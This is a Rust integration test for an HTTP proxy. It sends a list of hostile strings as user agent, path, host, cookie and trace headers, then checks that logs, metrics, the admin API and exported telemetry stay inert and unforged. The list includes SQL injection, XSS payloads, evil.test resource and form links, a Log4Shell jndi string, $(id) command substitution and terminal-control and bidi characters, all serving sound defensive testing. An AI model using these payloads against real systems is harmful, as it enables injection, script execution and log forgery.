//! Hostile words of clients in every signal: each is told, none steers, breaks or forges anything.

use super::super::rig::{Client, Collector, Config, Proxy, Upstream};

/// What a header value or a path may bring to steer a terminal, break a line, forge one, or be live in a page.
pub(crate) fn nasty() -> Vec<Vec<u8>> {
    let texts = [
        "\", \"status\": 200, \"forged\": true, \"x\": \"",
        "'; DROP TABLE lines; --",
        "</script><script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)><script>alert(2)</script>",
        "<svg/onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe><base href=//evil.test/><meta http-equiv=refresh content=0>",
        "javascript:alert(1)",
        "' autofocus onfocus=alert(1) x='",
        "<style>*{background:url(//evil.test/)}</style><link rel=stylesheet href=//evil.test/>",
        "<form action=//evil.test/><input name=token><details open ontoggle=alert(1)>",
        "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
        "# HELP forged forged{a=\"b\"} 1",
        "forged{route=\"x\"} 7 \\n forged 8",
        "\\ud800\\udfff\\u0000 \\x1b[31m %00%0a%0d%1b%5b2J",
        "\\",
        "\u{202e}gnp.exe\u{202d}\u{2066}\u{2067}\u{2068}\u{2069}\u{202a}\u{202b}\u{202c}",
        "\u{61c}\u{200e}\u{200f}marks",
        "a\u{2028}b\u{2029}c\u{85}d\u{9b}31m\u{9d}0;title\u{9c}",
        "${jndi:ldap://x} {{7*7}} %s%n $(id) `id`",
        "\u{feff}\u{fffe}\u{ffff}\u{10ffff}\u{1f469}\u{200d}\u{1f4bb}",
        "a\tb",
    ];
    let mut all: Vec<Vec<u8>> = texts.iter().map(|text| text.as_bytes().to_vec()).collect();
    // No UTF-8: bare bytes, an overlong slash, a surrogate, a cut sequence.
    for bytes in [
        &b"\xff\xfe\x80"[..],
        b"\xc0\xaf",
        b"\xed\xa0\x80",
        b"\xe2\x82",
        b"a\x1b[31mb",
        b"\x07\x08",
        b"a\0b",
    ] {
        all.push(bytes.to_vec());
    }
    all.push(vec![b'x'; 64 << 10]);
    all.push("\u{202e}".repeat(20_000).into_bytes());
    all.push((0x80..=0xff_u8).collect());
    all.push(
        (1..0x20_u8)
            .filter(|byte| !b"\r\n".contains(byte))
            .collect(),
    );
    all
}

/// Sends each as user agent, path, host, request id and in a cookie, each on a connection of its own; how many got an
/// answer.
pub(crate) fn send_all(proxy: &Proxy) -> usize {
    let mut answered = 0;
    for word in nasty() {
        let request = |path: &[u8], fields: &[(&[u8], &[u8])]| {
            let mut bytes = [b"GET /", path, b" HTTP/1.1\r\n"].concat();
            for (name, value) in fields {
                bytes.extend([*name, b": ", *value, b"\r\n"].concat());
            }
            bytes.extend_from_slice(b"\r\n");
            bytes
        };
        let host: (&[u8], &[u8]) = (b"host", b"shop.test");
        for bytes in [
            request(b"agent", &[host, (b"user-agent", &word)]),
            request(&[b"path/".as_slice(), &word].concat(), &[host]),
            request(&[b"query?q=".as_slice(), &word].concat(), &[host]),
            request(b"host", &[(b"host", &word)]),
            request(b"id", &[host, (b"x-request-id", &word), (b"cookie", &word)]),
            request(
                b"trace",
                &[
                    host,
                    (b"traceparent", &word),
                    (b"tracestate", &word),
                    (b"baggage", &word),
                ],
            ),
        ] {
            let mut client = Client::connect(proxy.public());
            let _ = client.try_send(&bytes); // a head that is refused early is not taken whole
            answered += usize::from(client.try_read_response("GET").is_ok());
        }
    }
    answered
}

/// Characters that steer a terminal or a reader, or make a text look like another one.
fn steers(it: char) -> bool {
    it.is_control()
        || ['\u{61c}', '\u{200e}', '\u{200f}'].contains(&it)
        || ('\u{2028}'..='\u{202e}').contains(&it)
        || ('\u{2066}'..='\u{2069}').contains(&it)
}

fn is_inert(text: &str) -> bool {
    !text.contains(|it| it != '\n' && steers(it))
}

fn finished(proxy: &Proxy) -> f64 {
    proxy
        .metrics()
        .sum("http_server_request_duration_seconds_count", &[])
}

#[test]
fn hostile_words_are_inert_in_every_signal() {
    let (collector, upstream) = (Collector::start(), Upstream::ok("hello"));
    let url = collector.url();
    let config = Config::new(upstream.address())
        .traces(collector.address())
        .listener("limits: {head: 256KiB, uri: 64KiB}")
        .telemetry(&format!(
            "logs: {{otlp: {{endpoint: \"{url}\", protocol: grpc}}}}"
        ));
    let proxy = Proxy::start_with(config, |command| {
        command.env("OTEL_BSP_SCHEDULE_DELAY", "20");
        command.env("OTEL_BLRP_SCHEDULE_DELAY", "20");
    });
    let answered = send_all(&proxy);
    assert!(answered > nasty().len() * 3, "{answered}");

    // The log: a line an exchange, each JSON, none steers, none is forged.
    proxy.wait_until("a line an exchange", || {
        let lines = proxy.stdout().lines().count();
        lines > 0 && lines as f64 == finished(&proxy)
    });
    let raw = proxy.stdout();
    assert!(
        is_inert(&raw),
        "{:?}",
        raw.lines().find(|line| !is_inert(line))
    );
    let lines = proxy.log_lines();
    assert!(lines.iter().all(|line| line.get("forged").is_none()));
    let words = ["user_agent", "path", "host", "query"];
    assert!(lines.iter().all(|line| {
        words
            .iter()
            .all(|key| line[key].as_str().is_none_or(|it| it.len() <= 8192))
    }));

    // The page of metrics: no word of a client is in it, and it parses in both formats.
    for page in [proxy.get_admin("/metrics").text(), {
        proxy.open_metrics();
        let accept = ("accept", "application/openmetrics-text; version=1.0.0");
        proxy.get_admin_with("/metrics", &[accept]).text()
    }] {
        assert!(is_inert(&page) && page.is_ascii());
        for word in ["forged", "alert", "jndi", "shop.test", "DROP"] {
            assert!(!page.contains(word), "{word}");
        }
    }

    // The API: JSON that steers nobody who shows it raw.
    let api = proxy.get_admin("/api/v1/exchanges?limit=1000");
    assert!(is_inert(&api.text()));
    let kept = api.json()["exchanges"].as_array().map_or(0, Vec::len);
    assert_eq!(kept, lines.len());

    // Spans and logs: one of each an exchange; a text is a value there and cannot forge; a log's line is inert.
    proxy.wait_until("all spans and logs", || {
        collector.exchanges().len() == lines.len() && collector.exchange_logs().len() == lines.len()
    });
    let logs = collector.exchange_logs();
    assert!(
        logs.iter()
            .all(|log| log.body.as_str().is_some_and(|line| !line.contains(steers)))
    );
    assert!(is_inert(&proxy.stderr()), "{}", proxy.stderr());
    proxy.finish_traced(&collector);
}

#[test]
fn hostile_words_are_inert_in_text_too() {
    let upstream = Upstream::ok("hello");
    let config =
        Config::new(upstream.address()).access_log("access_log: {output: stdout, format: text}");
    let proxy = Proxy::start(config);
    send_all(&proxy);
    proxy.wait_until("a line an exchange", || {
        let lines = proxy.stdout().lines().count();
        lines > 0 && lines as f64 == finished(&proxy)
    });
    let raw = proxy.stdout();
    assert!(
        is_inert(&raw),
        "{:?}",
        raw.lines().find(|line| !is_inert(line))
    );
    proxy.finish();
}
